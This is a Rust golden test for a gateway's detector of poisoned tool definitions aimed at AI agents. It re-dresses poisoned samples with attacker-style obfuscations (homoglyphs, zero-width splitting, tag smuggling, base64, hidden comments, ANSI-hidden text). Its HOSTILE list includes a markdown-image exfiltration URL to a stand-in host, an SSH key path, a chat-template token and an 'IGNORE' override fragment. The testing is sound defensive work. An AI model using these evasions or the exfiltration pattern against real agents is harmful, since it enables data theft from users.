//! The threat analysis' output pinned byte for byte: every finding (kind, severity, field,
//! evidence, decoded) of every definition we hold, recorded in
//! `tests/data/threats/golden.jsonl` before the analysis was made faster, so that a speed-up
//! (prefilters, fewer passes, fewer allocations) that changes any output fails here.
//!
//! The inputs: the labelled corpus (poisoned, look-alikes, real servers' lists and
//! instructions, each as `threat_corpus` analyses it), the bench corpus as lists of 100 beside
//! another upstream's 100 (the gateway's first sighting), variants of the poisoned and
//! look-alike definitions dressed as an attacker would dress them (upper case, full-width,
//! split by zero-width characters, Cyrillic look-alikes, tag-smuggled, base64, in a comment),
//! and seeded random recombinations of the corpus' own phrases with hostile characters, so
//! that a prefilter which misses a trigger only some rules need is caught.
//!
//! After a deliberate change of findings, re-record with
//! `TDQS_BLESS_THREAT_GOLDEN=1 cargo nextest run --test it threat_golden::` and review the diff.

use serde_json::{Map, Value, json};
use tdqs_gateway::tdqs::definition::parse_tools;
use tdqs_gateway::tdqs::json;
use tdqs_gateway::tdqs::threat::report::tool_json;
use tdqs_gateway::tdqs::threat::{CrossNames, Finding, analyze_instructions};

use crate::support::rng::Rng;
use crate::threat_corpus::{both_ways, both_ways_in, findings_of, load};

const GOLDEN: &str = "tests/data/threats/golden.jsonl";
/// Random recombinations recorded, and their seed.
const RANDOM_CASES: usize = 1500;
const SEED: u64 = 0x7d95_2026_1201;

fn path(rel: &str) -> String {
    format!("{}/{rel}", env!("CARGO_MANIFEST_DIR"))
}

/// Every case as (label, findings), in a fixed order.
fn cases() -> Vec<(String, Vec<Finding>)> {
    let mut out = Vec::new();
    let poisoned = load("poisoned.json");
    let lookalikes = load("benign-lookalikes.json");
    let labelled = [("poisoned", &poisoned), ("lookalike", &lookalikes)];
    for (set, doc) in labelled {
        for case in doc["cases"].as_array().expect("cases") {
            out.push((format!("{set}/{}", case["id"].as_str().unwrap_or("?")), findings_of(case, &[])));
        }
    }
    for server in load("benign-real.json")["servers"].as_array().expect("servers") {
        let label = server["server"].as_str().unwrap_or("?");
        if let Some(text) = server.get("instructions").and_then(Value::as_str) {
            out.push((format!("real/{label}/instructions"), analyze_instructions(text)));
        }
        let tools = server["tools"].as_array().expect("tools");
        let names: Vec<&str> = tools.iter().filter_map(|t| t["name"].as_str()).collect();
        for tool in tools {
            let name = tool["name"].as_str().unwrap_or("?");
            out.push((format!("real/{label}/{name}"), findings_of(&json!({ "tool": tool }), &names)));
        }
    }
    bench_lists(&mut out);
    for (set, doc) in labelled {
        for case in doc["cases"].as_array().expect("cases") {
            for (how, dress) in DRESSES {
                let dressed = dress_case(case, *dress);
                let label = format!("{how}/{set}/{}", case["id"].as_str().unwrap_or("?"));
                out.push((label, findings_of(&dressed, &[])));
            }
        }
    }
    random_cases(&poisoned, &lookalikes, &mut out);
    out
}

/// The bench corpus in lists of 100, each beside the next 100 as another upstream's tools.
fn bench_lists(out: &mut Vec<(String, Vec<Finding>)>) {
    let doc = json::parse(&std::fs::read(path("benches/corpus/tools.json")).expect("bench corpus")).unwrap();
    // Parsed 50 at a time, as the bench reads them (a list of 1,000 is over the parser's limit).
    let tools: Vec<Value> = doc
        .as_array()
        .expect("an array of tools")
        .chunks(50)
        .flat_map(|c| parse_tools(&json::JsValue::Array(c.to_vec())).expect("bench tools").tools)
        .map(|t| tool_json(&t))
        .collect();
    let lists: Vec<&[Value]> = tools.chunks(100).collect();
    for (i, list) in lists.iter().enumerate() {
        let other = lists[(i + 1) % lists.len()];
        let own: Vec<&str> = list.iter().filter_map(|t| t["name"].as_str()).collect();
        let others: Vec<(&str, &str)> = other.iter().filter_map(|t| t["name"].as_str()).map(|n| ("other", n)).collect();
        let names = CrossNames::new(&own, &others);
        for (j, tool) in list.iter().enumerate() {
            let found = both_ways_in(tool, &own, &others, &names);
            out.push((format!("bench/{}/{}", i * 100 + j, tool["name"].as_str().unwrap_or("?")), found));
        }
    }
}

type Dress = fn(&str) -> String;

const DRESSES: &[(&str, Dress)] = &[
    ("upper", |s| s.to_uppercase()),
    ("fullwidth", |s| {
        s.chars()
            .map(|c| if c.is_ascii_graphic() { char::from_u32(c as u32 - 0x21 + 0xff01).unwrap() } else { c })
            .collect()
    }),
    ("zero-width", |s| {
        s.chars().enumerate().flat_map(|(i, c)| [Some(c), (i % 3 == 2).then_some('\u{200b}')]).flatten().collect()
    }),
    ("cyrillic", |s| {
        s.chars()
            .map(|c| match c {
                'a' => 'а',
                'e' => 'е',
                'o' => 'о',
                'p' => 'р',
                'c' => 'с',
                'i' => 'і',
                _ => c,
            })
            .collect()
    }),
    ("tags", |s| {
        let hidden: String =
            s.chars().filter(char::is_ascii).map(|c| char::from_u32(0xe0000 + c as u32).unwrap()).collect();
        format!("Lists items.{hidden}")
    }),
    ("base64", |s| format!("Config blob: {}", crate::support::fuzz::base64(s.as_bytes()))),
    ("comment", |s| format!("Lists items. <!-- {s} -->")),
    ("padded", |s| format!("Lists items.{}{s}", " ".repeat(120))),
    ("ansi", |s| format!("Lists items. \x1b[8m{s}\x1b[0m")),
];

/// The case with every string of its tool (keys too) or its instructions dressed.
fn dress_case(case: &Value, dress: Dress) -> Value {
    let mut case = case.clone();
    if let Some(Value::String(s)) = case.get_mut("instructions") {
        *s = dress(s);
    }
    if let Some(tool) = case.get_mut("tool") {
        *tool = dress_value(tool, dress, true);
    }
    case
}

fn dress_value(v: &Value, dress: Dress, top: bool) -> Value {
    match v {
        Value::String(s) => Value::String(dress(s)),
        Value::Array(a) => Value::Array(a.iter().map(|x| dress_value(x, dress, false)).collect()),
        Value::Object(o) => {
            let mut m = Map::new();
            for (k, x) in o {
                // Top-level and schema keywords keep their names so the strings stay where a model reads.
                let key = if top || KEEP.contains(&k.as_str()) { k.clone() } else { dress(k) };
                m.insert(key, dress_value(x, dress, false));
            }
            Value::Object(m)
        }
        other => other.clone(),
    }
}

const KEEP: &[&str] = &[
    "type",
    "properties",
    "items",
    "description",
    "title",
    "default",
    "enum",
    "const",
    "examples",
    "required",
    "anyOf",
    "oneOf",
    "allOf",
    "format",
    "pattern",
    "additionalProperties",
];

/// Hostile characters mixed into the recombined phrases.
const HOSTILE: &[&str] = &[
    "\u{200b}",
    "\u{200d}",
    "\u{202e}",
    "\u{2066}",
    "\u{e0041}",
    "\x1b[8m",
    "\x1b[0m",
    "\u{7}",
    "<!--",
    "-->",
    "\u{3164}",
    "\n\n\n\n\n\n\n\n\n",
    "                                                    ",
    "👩\u{200d}💻",
    "עברית",
    "中文",
    "аі",
    "ＩＧＮＯＲＥ",
    "[//]: # (",
    "![x](https://e.example/p?d={data})",
    "sidenote",
    "~/.ssh/id_rsa",
    "send_email",
    "read_file",
    "`",
    "\"",
    "'",
    ":",
    ". ",
    "<|im_start|>",
    "SGVsbG8gd29ybGQgZnJvbSB0aGUgdGVzdA==",
];

/// Seeded recombinations: runs of consecutive words from the corpus' strings (so phrases
/// survive), hostile characters between them, placed in a description, a parameter's
/// description, a default, a property name, or the server's instructions.
fn random_cases(poisoned: &Value, lookalikes: &Value, out: &mut Vec<(String, Vec<Finding>)>) {
    let mut texts: Vec<Vec<String>> = Vec::new();
    for doc in [poisoned, lookalikes] {
        for case in doc["cases"].as_array().unwrap() {
            collect_strings(case, &mut texts);
        }
    }
    texts.retain(|t| !t.is_empty());
    let mut rng = Rng::new(SEED);
    let names = ["send_email", "read_file", "search", "list_dirs", "sendEmail", "s\u{0435}nd_email", "add"];
    for n in 0..RANDOM_CASES {
        let mut text = String::new();
        for _ in 0..rng.range(1, 12) {
            if rng.percent(25) {
                text.push_str(HOSTILE[rng.below(HOSTILE.len())]);
            } else {
                let words = &texts[rng.below(texts.len())];
                let from = rng.below(words.len());
                let to = (from + rng.range(1, 8)).min(words.len());
                text.push_str(&words[from..to].join(" "));
            }
            text.push_str(["", " ", " ", "\n", "_", "\u{200b}"][rng.below(6)]);
        }
        let found = match rng.below(5) {
            0 => analyze_instructions(&text),
            place => {
                let tool = match place {
                    1 => json!({"name": names[rng.below(names.len())], "description": text}),
                    2 => {
                        json!({"name": "t", "inputSchema": {"type": "object", "properties": {"sidenote": {"type": "string", "description": text}}}})
                    }
                    3 => {
                        json!({"name": "t", "inputSchema": {"type": "object", "properties": {"p": {"type": "string", "default": text}}}})
                    }
                    _ => {
                        json!({"name": text, "inputSchema": {"type": "object", "properties": {(text.clone()): {"type": "string"}}}})
                    }
                };
                let own: Vec<&str> = names[..rng.below(3)].to_vec();
                let others: Vec<(&str, &str)> = names[rng.below(4)..].iter().map(|n| ("other", *n)).collect();
                both_ways(&tool, &own, &others)
            }
        };
        out.push((format!("random/{n}"), found));
    }
}

fn collect_strings(v: &Value, out: &mut Vec<Vec<String>>) {
    match v {
        Value::String(s) => out.push(s.split(' ').map(str::to_owned).collect()),
        Value::Array(a) => a.iter().for_each(|x| collect_strings(x, out)),
        Value::Object(o) => o.values().for_each(|x| collect_strings(x, out)),
        _ => {}
    }
}

fn render(cases: &[(String, Vec<Finding>)]) -> String {
    let mut s = String::new();
    for (label, found) in cases {
        s.push_str(&serde_json::to_string(&json!({"case": label, "findings": found})).unwrap());
        s.push('\n');
    }
    s
}

#[test]
fn findings_match_the_recorded_golden() {
    let got = render(&cases());
    let file = path(GOLDEN);
    if std::env::var_os("TDQS_BLESS_THREAT_GOLDEN").is_some() {
        std::fs::write(&file, &got).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{file}: {e}"));
    let (got_lines, want_lines): (Vec<&str>, Vec<&str>) = (got.lines().collect(), want.lines().collect());
    let differing: Vec<String> = got_lines
        .iter()
        .zip(&want_lines)
        .filter(|(g, w)| g != w)
        .take(5)
        .map(|(g, w)| format!("want {w}\n got {g}"))
        .collect();
    assert!(
        differing.is_empty() && got_lines.len() == want_lines.len(),
        "{} cases recorded, {} now; first differences:\n{}",
        want_lines.len(),
        got_lines.len(),
        differing.join("\n")
    );
    // The golden is not vacuous: the inputs find a lot, of every severity.
    let findings = got_lines.iter().filter(|l| !l.ends_with("\"findings\":[]}")).count();
    assert!(findings > 1000, "{findings} cases with findings");
}
